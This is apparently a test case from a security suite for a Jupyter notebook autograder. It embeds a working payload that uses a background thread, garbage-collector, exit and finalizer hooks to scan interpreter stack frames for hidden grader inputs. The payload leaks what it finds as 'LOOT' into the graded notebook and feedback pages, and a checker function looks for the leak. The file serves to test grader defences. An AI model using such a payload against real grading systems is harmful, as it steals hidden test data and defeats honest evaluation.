"""Leave a thread, a tracer and hooks in the shell, which wait for hidden inputs."""

STOCK = "it attacks the way to the judge, which stock nbgrader does not have"
LOSES = True
FIRST = """
import atexit, gc, sys, threading, time, weakref
from IPython import get_ipython
from IPython.display import display
shown = display({"text/plain": "waiting"}, raw=True, display_id="loot") or "loot"
asked = chr(39) + "stand_ins" + chr(39)
publish = get_ipython().display_pub.publish
def tell(*_):
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            form = repr(frame.f_locals.get("forms") or frame.f_locals.get("request"))
            if asked in form:
                print("LOOT", form[:5000])
                publish({"text/plain": "LOOT " + form[:5000]},
                        transient={"display_id": "loot"}, update=True)
            frame = frame.f_back
def watch():
    for _ in range(400):
        tell()
        time.sleep(0.01)
threading.Thread(target=watch, daemon=True).start()
atexit.register(tell)
gc.callbacks.append(tell)
class Kept: pass
kept = Kept()
weakref.finalize(kept, tell)
print("TRIED")
"""


def harm(place):
    """Look for the loot in the graded notebook and on the page."""
    pages = (place.root / "feedback" / place.name).rglob("*.html")
    texts = [p.read_text() for p in [place.graded(place.name), *pages]]
    return [t[:99] for t in texts if "LOOT [{" in t or "LOOT {&" in t or "LOOT {'" in t]
